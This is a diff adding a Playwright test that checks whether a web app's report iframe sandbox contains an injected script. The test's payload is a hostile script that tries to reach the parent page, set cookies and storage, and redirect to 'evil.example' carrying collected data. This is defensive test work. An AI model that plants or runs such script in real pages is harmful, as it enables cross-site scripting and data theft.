@@ -172,6 +172,46 @@ def test_no_text_of_two_hundred_hostile_ones_runs(browser: Browser, tmp_path: Pa
         context.close()
 
 
+def test_scripts_in_a_report_reach_neither_the_pages_nor_the_network(browser: Browser, tmp_path: Path) -> None:
+    """What Evidently would write of hostile names: its own scripts run, and each way out of the frame is shut."""
+    tries = {
+        "page": "top.__ran = 1",
+        "text": "parent.document.body.innerHTML",
+        "cookie": "document.cookie = 'mine=1'",
+        "kept": "localStorage.setItem('mine', '1')",
+        "leave": "top.location = 'http://evil.example/'",
+    }
+    lines = "".join(f"try {{ {code}; told.push('{name}') }} catch (error) {{}}\n" for name, code in tries.items())
+    rest = "fetch('/api').then(() => told.push('fetch')).catch(() => told.push('no fetch'));"
+    shown = "setTimeout(() => { document.body.append('told: ' + told.join()); }, 500);"
+    leaving = "setTimeout(() => { location = 'http://evil.example/?told=' + told; }, 1500);"
+    hostile = f"<script>const told = [];\n{lines}{rest}{shown}{leaving}alert(1);</script>"
+    with Served(tmp_path, hostile) as url:
+        context = context_of(browser)
+        page = context.new_page()
+        dialogs: list[str] = []
+
+        def seen(dialog: Dialog) -> None:
+            dialogs.append(dialog.message)
+            dialog.dismiss()
+
+        page.on("dialog", seen)
+        asked: list[str] = []
+        page.on("request", lambda request: asked.append(request.url))
+        page.goto(f"{url}/models/{MODEL}/windows/2013-04")
+        assert not [address for address in asked if address.endswith("/report")], "loaded before it is asked for"
+        page.get_by_text("Show the report").click()
+        expect(page.frame_locator("iframe.report").locator("body")).to_contain_text("told: no fetch")
+        page.wait_for_timeout(1500)
+        assert page.evaluate("window.__ran") is None
+        assert page.url.startswith(url)
+        assert dialogs == []
+        assert {address for address in asked if not address.startswith(url)} == set()
+        page.goto(f"{url}/models/{MODEL}/windows/2013-04/report")
+        assert page.url.endswith("/windows/2013-04")
+        context.close()
+
+
 def test_a_form_sent_from_another_site_is_refused(pages: str, browser: Browser, tmp_path: Path) -> None:
     """A page of another origin posts to ours with all that its browser would send along."""
     form = f'<form method="post" action="{pages}/models/{MODEL}/do/pause"><input name="reason" value="mine"></form>'
